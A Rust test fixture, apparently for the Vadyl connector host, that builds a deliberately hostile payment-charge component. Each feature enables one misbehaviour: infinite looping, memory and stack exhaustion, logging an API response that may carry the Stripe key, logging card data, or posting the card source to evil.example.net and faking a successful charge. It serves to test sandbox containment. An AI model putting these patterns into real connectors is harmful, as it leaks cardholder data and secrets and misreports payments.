//! A `payment.charge@1` component that misbehaves on purpose, to show the Vadyl host contains it.
//!
//! Each cargo feature compiles one misbehaviour into `charge` (enable exactly one per build):
//!
//! | Feature          | `charge` does                                                              | The host must         |
//! |------------------|----------------------------------------------------------------------------|-----------------------|
//! | `loop`           | spins forever, never calling the host                                      | interrupt it          |
//! | `memory-bomb`    | allocates and touches 1 MiB blocks until allocation fails, then aborts     | cap its memory        |
//! | `stack-overflow` | recurses without bound (not a tail call)                                   | trap the overflow     |
//! | `log-secret`     | calls the Stripe API with the API key attached, then logs the whole answer | redact the secret     |
//! |                  | (body and headers) and succeeds; an upstream that echoes `Authorization`   |                       |
//! |                  | makes that log carry the key                                               |                       |
//! | `bad-egress`     | asks for a plan to `https://evil.example.net/collect`, ignores the refusal | refuse the plan       |
//! |                  | and pretends the charge succeeded                                          |                       |
//! | `log-input`      | logs the card `source` (a sensitive input field) and pretends the charge   | redact it, and fail   |
//! |                  | succeeded                                                                  | `observability.redaction` |
//!
//! Without a feature `charge` fails with `internal`; `refund` always does.

wit_bindgen::generate!({
    path: "../../wit/worlds/connector",
    world: "payment-charge-v1",
});

use exports::vadyl::connector::payment_charge_v1_api::{
    ChargeInput, ChargeStep, ContractError, EgressExchange, Guest, RefundInput, RefundStep,
};
#[cfg(any(feature = "log-secret", feature = "bad-egress", feature = "log-input"))]
use exports::vadyl::connector::payment_charge_v1_api::{ChargeOutput, ChargeStatus};
use vadyl::connector::types::ErrorCode;

/// How many misbehaviours this build enables; more than one would be ambiguous.
const ENABLED: usize = cfg!(feature = "loop") as usize
    + cfg!(feature = "memory-bomb") as usize
    + cfg!(feature = "stack-overflow") as usize
    + cfg!(feature = "log-secret") as usize
    + cfg!(feature = "bad-egress") as usize
    + cfg!(feature = "log-input") as usize;
const _: () = match ENABLED {
    0 | 1 => (),
    _ => panic!("enable at most one of the hostile features"),
};

struct Hostile;

impl Guest for Hostile {
    fn charge(input: ChargeInput, exchanges: Vec<EgressExchange>) -> ChargeStep {
        misbehave(&input, &exchanges)
    }

    fn refund(_input: RefundInput, _exchanges: Vec<EgressExchange>) -> RefundStep {
        RefundStep::Failed(failure(ErrorCode::Internal, "the hostile connector does not refund"))
    }
}

export!(Hostile);

#[cfg(feature = "loop")]
fn misbehave(_input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    let mut counter = 0u64;
    loop {
        // `black_box` keeps the optimizer from proving the loop useless.
        counter = std::hint::black_box(counter.wrapping_add(1));
    }
}

#[cfg(feature = "memory-bomb")]
fn misbehave(_input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    const BLOCK: usize = 1 << 20;
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = Vec::new();
        if block.try_reserve_exact(BLOCK).is_err() || held.try_reserve(1).is_err() {
            // What Rust does on a failed allocation: abort, which is a trap in WebAssembly.
            std::alloc::handle_alloc_error(std::alloc::Layout::new::<[u8; BLOCK]>());
        }
        // Write every byte, so the memory is really used, not just reserved.
        block.resize(BLOCK, 0xa5);
        held.push(std::hint::black_box(block));
    }
}

#[cfg(feature = "stack-overflow")]
fn misbehave(input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    let depth = descend(input.amount);
    ChargeStep::Failed(failure(ErrorCode::Internal, &format!("the recursion ended at depth {depth}")))
}

/// Recurses until the stack is exhausted: the base case is opaque to the optimizer, and the result
/// is used after each call, so the recursion cannot become a loop.
#[cfg(feature = "stack-overflow")]
#[inline(never)]
fn descend(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX {
        return depth;
    }
    let below = descend(depth.wrapping_add(1));
    std::hint::black_box(below) ^ depth
}

#[cfg(feature = "log-input")]
fn misbehave(input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    use vadyl::connector::observability::{self, Level};
    let _ = observability::log(Level::Info, &format!("charging card {}", input.source), &[]);
    ChargeStep::Done(fake_output(input, "ch_hostile_log_input"))
}

#[cfg(feature = "log-secret")]
fn misbehave(input: &ChargeInput, exchanges: &[EgressExchange]) -> ChargeStep {
    use vadyl::connector::egress::{self, EgressRequest, Method};
    use vadyl::connector::observability::{self, Attribute, AttributeValue, Level};
    use vadyl::connector::secrets::{self, EgressAuth, SecretRef};
    use vadyl::connector::types::{Body, EgressOutcome, Header};

    let Some(last) = exchanges.last() else {
        let header = |name: &str, value: &str| Header { name: name.to_owned(), value: value.to_owned() };
        let request = EgressRequest {
            method: Method::Post,
            url: "https://api.stripe.com/v1/charges".to_owned(),
            headers: vec![
                header("Content-Type", "application/x-www-form-urlencoded"),
                header("Idempotency-Key", "hostile-log-secret"),
            ],
            body: Body::Text(format!("amount={}&currency={}", input.amount, input.currency)),
            timeout_ms: None,
        };
        let plan = match egress::build_plan(&request) {
            Ok(plan) => plan,
            Err(error) => return ChargeStep::Failed(failure(ErrorCode::HostDenied, &format!("{error:?}"))),
        };
        let api_key = EgressAuth::Bearer(SecretRef { name: "stripe-secret-key".to_owned(), version: None });
        if let Err(error) = secrets::attach_auth_to_egress_plan(&plan, &api_key) {
            return ChargeStep::Failed(failure(ErrorCode::HostDenied, &format!("{error:?}")));
        }
        return ChargeStep::Egress(plan);
    };

    // Everything the upstream sent, verbatim: exactly what a connector must never log.
    let (message, headers) = match &last.outcome {
        EgressOutcome::Response(response) => {
            let body = match &response.body {
                Body::Empty => String::new(),
                Body::Text(text) => text.clone(),
                Body::Bytes(bytes) => String::from_utf8_lossy(bytes).into_owned(),
            };
            (body, response.headers.clone())
        }
        EgressOutcome::NetworkError(error) => (error.message.clone(), Vec::new()),
    };
    let attributes: Vec<Attribute> =
        headers.into_iter().map(|h| Attribute { key: h.name, value: AttributeValue::Text(h.value) }).collect();
    let _ = observability::log(Level::Info, &message, &attributes);
    ChargeStep::Done(fake_output(input, "ch_hostile_log_secret"))
}

#[cfg(feature = "bad-egress")]
fn misbehave(input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    use vadyl::connector::egress::{self, EgressRequest, Method};
    use vadyl::connector::types::Body;

    let exfiltrate = EgressRequest {
        method: Method::Post,
        url: "https://evil.example.net/collect".to_owned(),
        headers: Vec::new(),
        body: Body::Text(format!("source={}", input.source)),
        timeout_ms: None,
    };
    // The refusal is ignored: a careless or malicious connector would carry on as if nothing happened.
    let _ = egress::build_plan(&exfiltrate);
    ChargeStep::Done(fake_output(input, "ch_hostile_bad_egress"))
}

#[cfg(not(any(
    feature = "loop",
    feature = "memory-bomb",
    feature = "stack-overflow",
    feature = "log-secret",
    feature = "bad-egress",
    feature = "log-input"
)))]
fn misbehave(_input: &ChargeInput, _exchanges: &[EgressExchange]) -> ChargeStep {
    ChargeStep::Failed(failure(ErrorCode::Internal, "no hostile behaviour was compiled in; enable one feature"))
}

/// A plausible successful charge that no provider made.
#[cfg(any(feature = "log-secret", feature = "bad-egress", feature = "log-input"))]
fn fake_output(input: &ChargeInput, charge_id: &str) -> ChargeOutput {
    ChargeOutput {
        charge_id: charge_id.to_owned(),
        status: ChargeStatus::Succeeded,
        amount: input.amount,
        currency: input.currency.to_ascii_lowercase(),
        captured: true,
        receipt_url: None,
        failure_code: None,
        created_at: None,
    }
}

fn failure(code: ErrorCode, message: &str) -> ContractError {
    ContractError {
        code,
        message: message.to_owned(),
        retryable: false,
        retry_after_ms: None,
        provider_code: None,
        details: Vec::new(),
    }
}
